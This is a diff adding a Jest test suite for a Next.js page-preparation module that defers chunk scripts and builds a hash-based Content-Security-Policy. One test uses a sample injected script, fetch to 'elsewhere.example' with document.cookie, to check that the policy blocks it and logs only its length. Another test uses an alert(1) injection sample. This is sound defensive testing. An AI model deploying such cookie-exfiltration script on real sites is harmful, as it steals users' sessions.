@@ -1,0 +1,95 @@
+import { createHash } from 'node:crypto';
+import {
+  allowInlineScript,
+  deferScripts,
+  preparePage,
+  scriptPolicy,
+} from '@/lib/server/html/page-html.mts';
+
+const chunk = (name: string, id = '') =>
+  `<script src="/_next/static/chunks/${name}.js"${id} async=""></script>`;
+const document = (head: string, body = '') =>
+  `<!DOCTYPE html><html><head>${head}</head><body>${body}</body></html>`;
+const sha = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`;
+const DATA = '<script>self.__next_f.push([1,"a"])</script>';
+
+afterEach(() => jest.restoreAllMocks());
+
+describe('scripts of a page', () => {
+  test('are requested by one script at the end of the head, in their order and with their ids', () => {
+    const html = deferScripts(document(chunk('a') + chunk('b', ' id="_R_"'), chunk('c')));
+    expect(html).not.toMatch(/<script src=/);
+    expect(html).toMatch(
+      /<script>.*\(\[\["\/_next\/static\/chunks\/a\.js"\],\["\/_next\/static\/chunks\/b\.js","_R_"\],\["\/_next\/static\/chunks\/c\.js"\]\]\)<\/script><\/head>/s,
+    );
+  });
+
+  test('lose their preloads, which would fetch them before the first paint', () => {
+    const preload = '<link rel="preload" as="script" fetchPriority="low" href="/_next/a.js"/>';
+    expect(deferScripts(document(preload + chunk('a')))).not.toContain('preload');
+  });
+
+  test('stay as they are in a page without chunks or without a head', () => {
+    expect(deferScripts(document(DATA))).toBe(document(DATA));
+    expect(deferScripts(chunk('a'))).toBe(chunk('a'));
+  });
+
+  test('that hold data become one', () => {
+    const { html } = preparePage(document('', DATA + DATA + DATA));
+    expect(html.match(/<script>/g)).toHaveLength(1);
+    expect(html.match(/__next_f\.push/g)).toHaveLength(3);
+  });
+});
+
+describe('the policy of a page', () => {
+  test("names the hash of each of the server's own inline scripts", () => {
+    allowInlineScript('document.title="x"');
+    const { html, headers } = preparePage(
+      document(chunk('a') + '<script>document.title="x"</script>', DATA),
+    );
+    const codes = [...html.matchAll(/<script>([^]*?)<\/script>/g)].map(([, code = '']) => code);
+    expect(codes).toHaveLength(3);
+    for (const code of codes) expect(headers['content-security-policy']).toContain(sha(code));
+    expect(headers['content-security-policy']).not.toContain('unsafe-inline');
+  });
+
+  test('leaves out any other script, which browsers then block, and logs its length alone', () => {
+    const written = jest.spyOn(process.stderr, 'write').mockReturnValue(true);
+    const attack = 'fetch("//elsewhere.example/"+document.cookie)';
+    expect(scriptPolicy(`<script>${attack}</script>`)).toBe("script-src 'self'");
+    expect(String(written.mock.calls)).toContain(`"length":${attack.length}`);
+    expect(String(written.mock.calls)).not.toContain('elsewhere');
+  });
+
+  test.each([
+    [
+      'a loader with anything but chunks',
+      `<script>${'LOADER'}([["https://x.example/a.js"]])</script>`,
+    ],
+    ['data followed by code', '<script>self.__next_f.push([1,"a"]);alert(1)</script>'],
+  ])('leaves out %s', (_name, script) => {
+    jest.spyOn(process.stderr, 'write').mockReturnValue(true);
+    const deferred = deferScripts(document(chunk('a')));
+    const loader = /<script>(.*)\(\[\[/s.exec(deferred)?.[1] ?? '';
+    expect(scriptPolicy(script.replace('LOADER', () => loader))).toBe("script-src 'self'");
+  });
+
+  test('ignores data blocks, which no browser runs', () => {
+    expect(scriptPolicy('<script type="application/ld+json">{}</script>')).toBe(
+      "script-src 'self'",
+    );
+  });
+
+  test('allows the map of Google only where its key and map id are set', () => {
+    process.env.GOOGLE_MAPS_API_KEY = 'k'.repeat(20);
+    process.env.GOOGLE_MAPS_MAP_ID = 'mapa';
+    expect(scriptPolicy('')).toBe("script-src 'self' https://maps.googleapis.com");
+    delete process.env.GOOGLE_MAPS_MAP_ID;
+    expect(scriptPolicy('')).toBe("script-src 'self'");
+    delete process.env.GOOGLE_MAPS_API_KEY;
+  });
+});
+
+test('a redirect is stored without the page that nobody sees', () => {
+  expect(preparePage(document(chunk('a')), 308).html).toBe('');
+});
